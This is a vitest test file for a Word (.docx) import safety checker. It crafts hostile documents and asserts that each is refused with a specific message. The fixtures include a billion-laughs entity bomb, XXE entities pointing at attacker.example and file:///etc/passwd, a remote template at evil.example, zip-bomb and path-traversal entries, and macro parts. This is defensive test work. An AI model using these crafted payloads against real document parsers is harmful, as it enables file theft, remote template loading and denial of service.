import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DocxRefusedError, readDocx, readDocxBytes, type DocxCheck, type DocxLimits } from '../../../electron/services/word-import/docx-safety';
import { snapshotDir, tempDir } from '../../helpers/temp-dir';
import { craftZip, noise, type CraftEntry } from '../packs/zip-craft';
import { editText, rebuildDocx, simpleDocx, unzipEntries } from './docx-craft';

const valid = await simpleDocx();
// eslint-disable-next-line @microsoft/sdl/no-insecure-url -- an OOXML identifier, not a URL to load
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const DOC_RELS = 'word/_rels/document.xml.rels';

/** The valid document with one more relationship of the main document. */
const withRelationship = (type: string, target: string, external = true): Promise<Buffer> =>
  rebuildDocx(valid, (entries) =>
    editText(entries, DOC_RELS, (text) =>
      text.replace('</Relationships>', `<Relationship Id="rId99" Type="${REL}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`),
    ),
  );
const edit = (name: string, change: (text: string) => string): Promise<Buffer> => rebuildDocx(valid, (entries) => editText(entries, name, change));
const change = (fn: (entries: CraftEntry[]) => CraftEntry[]): Promise<Buffer> => rebuildDocx(valid, fn);
/** An OLE compound file header followed by a directory that names the given stream (UTF-16, as CFB does). */
const compoundFile = (stream: string): Buffer =>
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504), Buffer.from(stream, 'utf16le'), noise(2048)]);

type Case = { title: string; bytes: () => Buffer | Promise<Buffer>; check: DocxCheck; message: string; fileName?: string; limits?: Partial<DocxLimits> };

/** Each case breaks one rule of an otherwise valid document, so the message proves which check fired. */
const CASES: Case[] = [
  { title: 'an empty file', bytes: () => Buffer.alloc(0), check: 'file', message: 'The file is empty, so it is not a Word document.' },
  { title: 'random bytes', bytes: () => noise(4096), check: 'archive', message: 'The file is not a Word document (.docx): it is not a zip archive.' },
  {
    title: 'a password-protected document (EncryptedPackage in an OLE compound file)',
    bytes: () => compoundFile('EncryptedPackage'),
    check: 'format',
    message: 'The document is protected by a password (encrypted). Open it in Word, remove the password, save it and import that copy.',
  },
  {
    title: 'an older binary .doc',
    bytes: () => compoundFile('WordDocument'),
    check: 'format',
    message: 'The file is an older Word document (.doc). Save it as .docx in Word or LibreOffice and import that copy.',
  },
  {
    title: 'a truncated document',
    bytes: () => valid.subarray(0, Math.floor(valid.length / 2)),
    check: 'archive',
    message: 'The document is incomplete: the file was cut short, perhaps by an interrupted download or copy.',
  },
  {
    title: 'a .docm file name',
    bytes: () => valid,
    fileName: 'plan.docm',
    check: 'file',
    message: '"plan.docm" is a macro-enabled document (.docm); macros are never imported. Save it as .docx and import that copy.',
  },
  {
    title: 'a vbaProject.bin part',
    bytes: () => change((entries) => [...entries, { name: 'word/vbaProject.bin', data: noise(300) }]),
    check: 'macros',
    message: 'The document contains macros ("word/vbaProject.bin"); macro-enabled documents are refused. Save it as .docx without macros.',
  },
  {
    title: 'a macro-enabled main content type',
    bytes: () => edit('[Content_Types].xml', (text) => text.replace('</Types>', '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')),
    check: 'macros',
    message: 'The document is macro-enabled (content type "application/vnd.ms-word.document.macroEnabled.main+xml"); macro-enabled documents are refused. Save it as .docx without macros.',
  },
  {
    title: 'a billion-laughs DTD in document.xml',
    bytes: () =>
      edit('word/document.xml', (text) =>
        text.replace('?>', '?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'),
      ),
    check: 'xml',
    message: '"word/document.xml" declares a DTD (<!DOCTYPE>); Word never writes one, and it could hide entity bombs or external entities.',
  },
  {
    title: 'an external entity in styles.xml',
    bytes: () => edit('word/styles.xml', (text) => text.replace('?>', '?><!DOCTYPE w:styles SYSTEM "https://attacker.example/x.dtd">')),
    check: 'xml',
    message: '"word/styles.xml" declares a DTD (<!DOCTYPE>); Word never writes one, and it could hide entity bombs or external entities.',
  },
  {
    title: 'an entity declaration outside a DTD',
    bytes: () => edit('word/numbering.xml', (text) => text.replace('?>', '?><!ENTITY x SYSTEM "file:///etc/passwd">')),
    check: 'xml',
    message: '"word/numbering.xml" declares an XML entity (<!ENTITY>); Word never writes one.',
  },
  {
    title: 'an external image',
    bytes: () => withRelationship('image', 'https://tracker.example/pixel.png'),
    check: 'relationships',
    message:
      'The document refers to an external image at "https://tracker.example/pixel.png" (word/_rels/document.xml.rels); content stored outside the document is never fetched, so it is refused. Embed the image or remove it, then save and import again.',
  },
  {
    title: 'an external attached template (settings relationships)',
    bytes: () =>
      change((entries) => [
        ...entries,
        {
          name: 'word/_rels/settings.xml.rels',
          data: Buffer.from(
            `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/normal.dotm" TargetMode="External"/></Relationships>`,
          ),
        },
      ]),
    check: 'relationships',
    message:
      'The document refers to an external attachedTemplate at "https://evil.example/normal.dotm" (word/_rels/settings.xml.rels); content stored outside the document is never fetched, so it is refused. Embed the attachedTemplate or remove it, then save and import again.',
  },
  {
    title: 'an external OLE object',
    bytes: () => withRelationship('oleObject', 'file:///C:/secret.xls'),
    check: 'relationships',
    message:
      'The document refers to an external oleObject at "file:///C:/secret.xls" (word/_rels/document.xml.rels); content stored outside the document is never fetched, so it is refused. Embed the oleObject or remove it, then save and import again.',
  },
  {
    title: 'a relationship target that climbs out of the package',
    bytes: () => withRelationship('image', '../../../etc/passwd', false),
    check: 'relationships',
    message: 'word/_rels/document.xml.rels refers to "../../../etc/passwd", outside the document.',
  },
  {
    title: 'a huge image',
    bytes: () => change((entries) => [...entries, { name: 'word/media/huge.png', data: noise(5000), method: 0 }]),
    limits: { maxImageBytes: 4096 },
    check: 'images',
    message: 'The image "word/media/huge.png" is larger than 4,096 bytes; reduce its size in Word and try again.',
  },
  {
    title: 'a zip bomb (document.xml compressed more than 100 to 1)',
    bytes: () => edit('word/document.xml', (text) => text.replace('<w:body>', `<w:body>${' '.repeat(2_000_000)}`)),
    check: 'entries',
    message: '"word/document.xml" is compressed more than 100 to 1, as only zip bombs are.',
  },
  {
    title: 'too many parts',
    bytes: () => change((entries) => [...entries, ...Array.from({ length: 30 }, (_, i) => ({ name: `customXml/item${i}.bin`, data: noise(10, i + 1) }))]),
    limits: { maxEntries: 25 },
    check: 'archive',
    message: 'The document has more than 25 parts.',
  },
  {
    title: 'a traversal name',
    bytes: () => change((entries) => [...entries, { name: '../../evil.xml', data: Buffer.from('<x/>') }]),
    check: 'entries',
    message: 'Unsafe part name "../../evil.xml" in the document: ".." is not allowed.',
  },
  {
    title: 'an absolute name',
    bytes: () => change((entries) => [...entries, { name: '/etc/cron.d/evil', data: Buffer.from('x') }]),
    check: 'entries',
    message: 'Unsafe part name "/etc/cron.d/evil" in the document: absolute paths are not allowed.',
  },
  {
    title: 'a local header name that differs from the directory',
    bytes: () => change((entries) => entries.map((e) => (e.name === 'word/document.xml' ? { ...e, localName: 'word/documenx.xml' } : e))),
    check: 'entries',
    message: '"word/document.xml" is named "word/documenx.xml" in its local header; the two names of a zip entry must be the same.',
  },
  {
    title: 'overlapping entries',
    bytes: () => change((entries) => [...entries, { name: 'word/copy.xml', data: entries[0]?.data ?? Buffer.alloc(0), sameDataAs: 0 }]),
    check: 'entries',
    message: '"word/copy.xml" shares its data with "word/_rels/document.xml.rels" (overlapping entries).',
  },
  {
    title: 'a missing word/document.xml',
    bytes: () => change((entries) => entries.filter((e) => e.name !== 'word/document.xml')),
    check: 'package',
    message: 'The document has no main text part ("word/document.xml"); it is not a Word document, or it is damaged.',
  },
  {
    title: 'a zip that is not an Office document',
    bytes: () => craftZip([{ name: 'readme.txt', data: Buffer.from('hello') }]),
    check: 'package',
    message: 'The file is a zip archive but not a Word document: it has no [Content_Types].xml.',
  },
  {
    title: 'a spreadsheet renamed .docx',
    bytes: () => edit('[Content_Types].xml', (text) => text.replace('wordprocessingml.document.main+xml', 'spreadsheetml.sheet.main+xml')),
    check: 'package',
    message: 'The file is not a Word document: its main part is "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml".',
  },
  {
    title: 'a part that is not UTF-8',
    bytes: () => change((entries) => entries.map((e) => (e.name === 'word/styles.xml' ? { ...e, data: Buffer.concat([e.data, Buffer.from([0xc3, 0x28])]) } : e))),
    check: 'xml',
    message: '"word/styles.xml" is not UTF-8 or UTF-16 text, as XML parts of a Word document are.',
  },
  {
    title: 'malformed relationships',
    bytes: () => edit(DOC_RELS, (text) => text.replace('</Relationships>', '<Relationship')),
    check: 'relationships',
    message: '"word/_rels/document.xml.rels" is not well-formed XML.',
  },
  {
    title: 'a CRC that does not match',
    bytes: () => change((entries) => entries.map((e) => (e.name === 'word/document.xml' ? { ...e, crc: 12345 } : e))),
    check: 'xml',
    message: '"word/document.xml" is corrupt: its CRC-32 does not match its data.',
  },
];

describe('opening Word documents safely', () => {
  it('has at least 15 hostile documents', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(15);
  });

  it.each(CASES)('refuses $title', async ({ bytes, check, message, fileName, limits }) => {
    const error = await readDocxBytes(await bytes(), fileName ?? 'plan.docx', limits).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(DocxRefusedError);
    expect((error as DocxRefusedError).message).toBe(message);
    expect((error as DocxRefusedError).check).toBe(check);
    expect((error as DocxRefusedError).code).toBe('invalid-argument');
  });

  it('writes nothing when it refuses a document on disk', async () => {
    const dir = await tempDir();
    const path = join(dir, 'bomb.docx');
    await writeFile(path, await edit('word/document.xml', (text) => text.replace('?>', '?><!DOCTYPE x [<!ENTITY a "a">]>')));
    const before = await snapshotDir(dir);
    await expect(readDocx(path)).rejects.toBeInstanceOf(DocxRefusedError);
    expect(await snapshotDir(dir)).toEqual(before);
  });

  it('returns the parts the import reads, and lists images with their size and relationship ids', async () => {
    const docx = await readDocxBytes(valid, 'plan.docx');
    expect(docx.fileName).toBe('plan.docx');
    expect(docx.parts.document).toContain('Lesson 1: Arrest and detention');
    expect(docx.parts.styles).toContain('<w:styles');
    expect(docx.parts.numbering).toContain('<w:numbering');
    expect(docx.parts.relationships).toContain('media/image1.png');
    expect(docx.parts.core).toContain('cp:coreProperties');
    expect(docx.images).toEqual([{ name: 'word/media/image1.png', bytes: 70, relationshipIds: ['rId7'] }]);
    expect(docx.relationships.find((r) => r.id === 'rId1')).toEqual({ id: 'rId1', type: `${REL}/styles`, target: 'word/styles.xml', external: false });
    expect(docx.warnings).toEqual([]);
  });

  it('keeps an external hyperlink as a warning: text links are ordinary, and nothing is fetched', async () => {
    const docx = await readDocxBytes(await withRelationship('hyperlink', 'https://www.ohchr.org/'), 'plan.docx');
    expect(docx.warnings).toEqual(['External link kept as text, never opened: https://www.ohchr.org/']);
  });

  it('reads a document whose main part is named elsewhere by the package relationships', async () => {
    const bytes = await change((entries) => {
      const renamed = entries.map((e) => (e.name === 'word/document.xml' ? { ...e, name: 'word/main.xml' } : e.name === DOC_RELS ? { ...e, name: 'word/_rels/main.xml.rels' } : e));
      return editText(editText(renamed, '_rels/.rels', (t) => t.replace('word/document.xml', 'word/main.xml')), '[Content_Types].xml', (t) => t.replace('/word/document.xml', '/word/main.xml'));
    });
    const docx = await readDocxBytes(bytes, 'plan.docx');
    expect(docx.parts.document).toContain('Arrest and detention');
    expect(docx.images.map((i) => i.name)).toEqual(['word/media/image1.png']);
  });

  it('reads UTF-16 parts with a byte order mark', async () => {
    const entries = await unzipEntries(valid);
    const utf16 = entries.map((e) => (e.name === 'word/styles.xml' ? { ...e, data: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(e.data.toString('utf8').replace('UTF-8', 'UTF-16'), 'utf16le')]) } : e));
    const docx = await readDocxBytes(craftZip(utf16), 'plan.docx');
    expect(docx.parts.styles).toContain('<w:styles');
  });
});
